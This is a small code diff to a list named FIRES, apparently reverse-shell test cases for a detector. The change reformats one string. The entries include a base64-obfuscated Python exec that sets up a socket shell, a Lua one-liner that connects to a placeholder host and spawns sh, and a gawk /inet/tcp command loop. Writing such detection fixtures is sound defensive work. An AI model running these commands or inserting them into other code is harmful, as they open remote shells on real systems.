@@ -25,8 +25,7 @@ FIRES = [
         "/usr/bin/python3",
         "python3",
         "-c",
-        "exec(__import__('base64').b64decode("
-        "'aW1wb3J0IHNvY2tldCxzdWJwcm9jZXNzLG9zO3M9c29ja2V0LnNvY2tldCgpO29zLmR1cDIocy5maWxlbm8oKSwwKQ=='))",
+        "exec(__import__('base64').b64decode('aW1wb3J0IHNvY2tldCxzdWJwcm9jZXNzLG9zO3M9c29ja2V0LnNvY2tldCgpO29zLmR1cDIocy5maWxlbm8oKSwwKQ=='))",
     ),
     ("/usr/bin/lua5.4", "lua", "-e", "local s=require('socket').tcp();s:connect('h',9);io.popen('sh')"),
     ("/usr/bin/gawk", "gawk", 'BEGIN{while(1){"/inet/tcp/0/h/9"|&getline l;l|getline}}'),
